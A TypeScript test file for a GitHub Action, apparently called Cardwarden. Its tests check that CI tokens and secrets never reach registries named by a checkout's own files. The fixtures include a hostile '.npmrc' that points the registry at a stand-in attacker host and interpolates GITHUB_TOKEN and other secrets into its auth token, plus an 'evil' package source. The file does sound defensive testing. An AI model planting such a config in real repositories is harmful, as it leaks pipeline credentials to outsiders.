import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { packsOf } from "../../src/action/packs.js";
import { checkoutPolicy } from "../../src/action/policy.js";
import { folderWith, type Host, startHost } from "../helpers/hosts.js";

/** What the Action sends where the checkout, whose files may be a pull request's, names packs and registries. */

const JOB_TOKEN = "ghs_s3cretOfTheJob";
const PACKS_TOKEN = "ghs_s3cretForPacks";
const OTHER = "s3cret-of-the-environment";

let stranger: Host;
let github: Host;
const seen: string[] = [];
beforeAll(async () => {
  stranger = await startHost((path, { rawHeaders }) => {
    seen.push([path, ...rawHeaders].join("\n"));
    return { status: 401 };
  });
  github = await startHost(() => ({ status: 404 }));
});
afterAll(() => Promise.all([stranger.stop(), github.stop()]));

const EVENTS = [
  ...["push", "schedule", "workflow_dispatch", "workflow_run", "issue_comment", "release"],
  ...["pull_request", "pull_request_target", "pull_request_review", "merge_group", "delete"],
];

/** A job whose checkout holds these files. */
function job(
  event: string,
  files: Record<string, string>,
  env: Record<string, string> = {},
  workspace = folderWith({ ".git/HEAD": "", ...files }),
) {
  const given = {
    env: {
      PATH: process.env.PATH,
      HOME: folderWith({}),
      RUNNER_TEMP: folderWith({}),
      GITHUB_SERVER_URL: github.url,
      INPUT_TOKEN: JOB_TOKEN,
      "INPUT_PACKS-TOKEN": PACKS_TOKEN,
      SECRET: OTHER,
      ...env,
    },
    event: { name: event },
    inputs: { token: JOB_TOKEN, packsToken: PACKS_TOKEN },
    begun: { workspace, checkout: { root: workspace } },
    step: { print() {} },
  } as unknown as Parameters<typeof packsOf>[0];
  return { fetch: packsOf(given, checkoutPolicy(workspace)), workspace };
}

const PLACE = "npm:evil@1.0.0";
const files = () => {
  const { host } = new URL(stranger.url);
  const all = [
    "GITHUB_TOKEN",
    "CARDWARDEN_PACKS_TOKEN",
    "INPUT_TOKEN",
    "INPUT_PACKS-TOKEN",
    "SECRET",
  ]
    .map((name) => `\${${name}?}`)
    .join("-");
  return {
    ".npmrc": `registry=${stranger.url}\n//${host}/:_authToken=${all}\n`,
    "cardwarden.lock": JSON.stringify({
      schema: "lock.v1",
      packs: {
        [PLACE]: {
          name: "evil",
          version: "1.0.0",
          source: `${stranger.url}evil.tgz`,
          packageVersion: "1.0.0",
          integrity: `sha512-${"A".repeat(86)}==`,
          digest: `sha256-${"0".repeat(64)}`,
        },
      },
    }),
  };
};

describe.each(EVENTS)("on %s", (event) => {
  test("no token and no variable goes where .npmrc of the checkout says", async () => {
    seen.length = 0;
    const { fetch } = job(event, files());
    await expect(fetch(PLACE, undefined)).rejects.toMatchObject({ code: "pack-denied" });
    expect(seen).toHaveLength(1);
    expect(seen[0]).not.toMatch(/authorization|s3cret/i);
  });
});

test.each(["NPM_CONFIG_USERCONFIG", "npm_config_globalconfig"])(
  "a file that %s names counts outside the checkout alone",
  async (name) => {
    const { host } = new URL(stranger.url);
    const npmrc = `//${host}/:_authToken=\${SECRET}\n`;
    const outside = folderWith({ rc: npmrc });
    const inside = folderWith({ ".git/HEAD": "", ...files(), rc: npmrc });
    const headers: boolean[] = [];
    for (const [home, workspace] of [
      [outside, folderWith(files())],
      [inside, inside],
    ] as const) {
      const { fetch } = job("push", {}, { [name]: join(home, "rc") }, workspace);
      await expect(fetch(PLACE, undefined)).rejects.toMatchObject({ code: "pack-denied" });
      headers.push(seen.at(-1)?.includes(`Bearer ${OTHER}`) ?? false);
    }
    expect(headers).toEqual([true, false]);
  },
);

test("the tokens go to the GitHub of the job alone", async () => {
  const place = "github:acme/policy@v1.0.0";
  const lock = {
    schema: "lock.v1",
    packs: {
      [place]: {
        name: "acme",
        version: "1.0.0",
        source: `${github.url}acme/policy.git`,
        commit: "a".repeat(40),
        ref: "refs/tags/v1.0.0",
        digest: `sha256-${"0".repeat(64)}`,
      },
    },
  };
  const { fetch } = job("push", { "cardwarden.lock": JSON.stringify(lock) });
  await expect(fetch(place, undefined)).rejects.toMatchObject({ code: "pack-denied" });
  const basic = Buffer.from(`x-access-token:${PACKS_TOKEN}`).toString("base64");
  expect(github.asked.map(({ authorization }) => authorization)).toContain(`basic ${basic}`);
  seen.length = 0;
  const strange = `git+${stranger.url}acme/evil.git//pack@${"a".repeat(40)}`;
  await expect(job("push", {}).fetch(strange, undefined)).rejects.toMatchObject({
    code: "pack-denied",
  });
  expect(seen.length).toBeGreaterThan(0);
  expect(seen.join("\n")).not.toMatch(/\nauthorization/i);
});
